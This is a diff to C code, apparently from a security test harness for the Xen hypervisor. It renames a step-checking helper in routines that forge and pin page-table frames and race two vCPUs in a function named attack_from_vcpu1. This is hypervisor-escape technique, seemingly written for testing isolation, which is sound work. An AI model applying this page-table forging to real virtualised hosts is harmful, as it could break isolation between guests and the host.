@@ -54,14 +54,6 @@ struct a10 {
     uint64_t window_pte;             /* machine address of the L1 entry of window TG_SLOT_ATTACK2 */
 };
 
-static int step(const char *what, long rc)
-{
-    if (rc == 0)
-        return 1;
-    result_fail("setup", "%s: %s", what, rc_name(rc));
-    return 0;
-}
-
 static unsigned long table_pfn(uint64_t entry)
 {
     return mfn_to_pfn((entry & PTE_ADDR_MASK) >> 12);
@@ -78,13 +70,13 @@ static int setup(struct a10 *a)
             return 0;
         }
         a->l3o = hx_frame();
-        if (!step("zero L3o", hx_fill(a->l3o, 0)) || !step("pin L3o", mmuext_pin(3, hx_mfn(a->l3o))) ||
-            !step("link L3o", pt_update_one(((uint64_t)a->x << 12) + SPARE_SLOT * 8, hx_link(a->l3o))) ||
-            !step("unpin L3o", mmuext_unpin(hx_mfn(a->l3o))))
+        if (!hx_step("zero L3o", hx_fill(a->l3o, 0)) || !hx_step("pin L3o", mmuext_pin(3, hx_mfn(a->l3o))) ||
+            !hx_step("link L3o", pt_update_one(((uint64_t)a->x << 12) + SPARE_SLOT * 8, hx_link(a->l3o))) ||
+            !hx_step("unpin L3o", mmuext_unpin(hx_mfn(a->l3o))))
             return 0;
         hx_l4_image(img);
         a->l3n = hx_frame();
-        if (!step("zero L3n", hx_fill(a->l3n, 0)) || !step("pin L3n", mmuext_pin(3, hx_mfn(a->l3n))))
+        if (!hx_step("zero L3n", hx_fill(a->l3n, 0)) || !hx_step("pin L3n", mmuext_pin(3, hx_mfn(a->l3n))))
             return 0;
         a->forged_va = HX_SLOT_VA(SPARE_SLOT);
     } else {
@@ -99,13 +91,13 @@ static int setup(struct a10 *a)
             int k = PT_INDEX(RW_VIRT_BASE, 3);
             a->l2o = table_pfn(l3[k]);
             a->l2n = hx_frame();
-            if (!step("copy L2n", hx_fill(a->l2n, pfn_to_virt(a->l2o))) ||
-                !step("pin L2n", mmuext_pin(2, hx_mfn(a->l2n))))
+            if (!hx_step("copy L2n", hx_fill(a->l2n, pfn_to_virt(a->l2o))) ||
+                !hx_step("pin L2n", mmuext_pin(2, hx_mfn(a->l2n))))
                 return 0;
             l3[k] = (l3[k] & ~PTE_ADDR_MASK) | ((uint64_t)hx_mfn(a->l2n) << 12);
         }
         a->l3n = hx_frame();
-        if (!step("copy L3n", hx_fill(a->l3n, l3)) || !step("pin L3n", mmuext_pin(3, hx_mfn(a->l3n))))
+        if (!hx_step("copy L3n", hx_fill(a->l3n, l3)) || !hx_step("pin L3n", mmuext_pin(3, hx_mfn(a->l3n))))
             return 0;
         a->forged_va = 0xFFFFFF8000000000UL;   /* L4 511, L3 index 0 */
     }
@@ -114,12 +106,12 @@ static int setup(struct a10 *a)
     img[a->slot] = a->slot == SPARE_SLOT ? 0 : (old & ~PTE_ADDR_MASK) | ((uint64_t)hx_mfn(a->l3n) << 12);
     a->y = hx_frame();
     a->y0 = hx_frame();
-    if (!step("fill Y", hx_fill(a->y, img)) || !step("fill Y0", hx_fill(a->y0, img)))
+    if (!hx_step("fill Y", hx_fill(a->y, img)) || !hx_step("fill Y0", hx_fill(a->y0, img)))
         return 0;
     img[a->slot] = a->slot == SPARE_SLOT ? hx_link(a->l3n) : img[a->slot];
     a->s_entry = img[a->slot];
     a->s = hx_frame();
-    if (!step("fill S", hx_fill(a->s, img)))
+    if (!hx_step("fill S", hx_fill(a->s, img)))
         return 0;
     a->window_pte = pt_l1_entry_maddr((unsigned long)window_va(TG_SLOT_ATTACK2));
     if (!a->window_pte) {
@@ -128,7 +120,7 @@ static int setup(struct a10 *a)
     }
     a->l2f = hx_frame();
     hx_superpage_l2(img, 0);
-    return step("fill the forged L2", hx_fill(a->l2f, img));
+    return hx_step("fill the forged L2", hx_fill(a->l2f, img));
 }
 
 static long run_batch(struct a10 *a, rw_u32 *done)
@@ -290,12 +282,12 @@ static void v1_main(uint64_t arg)
 static void attack_from_vcpu1(struct a10 *a, int write)
 {
     v1_write = write;
-    if (!step("start vCPU 1", vcpu_start(1, v1_main, v1_stack + sizeof v1_stack, (uint64_t)a)))
+    if (!hx_step("start vCPU 1", vcpu_start(1, v1_main, v1_stack + sizeof v1_stack, (uint64_t)a)))
         return;
-    if (!step("vCPU 0 to Y0", hx_op1(MMUEXT_NEW_BASEPTR, hx_mfn(a->y0), 0)))
+    if (!hx_step("vCPU 0 to Y0", hx_op1(MMUEXT_NEW_BASEPTR, hx_mfn(a->y0), 0)))
         return;
     v1_go = 1;
-    if (!step("vCPU 0 down", HYPERVISOR_vcpu_op(VCPUOP_down, 0, 0)))
+    if (!hx_step("vCPU 0 down", HYPERVISOR_vcpu_op(VCPUOP_down, 0, 0)))
         return;
     uint64_t end = system_time_ns() + 3000000000UL;
     while (!v1_done && system_time_ns() < end)
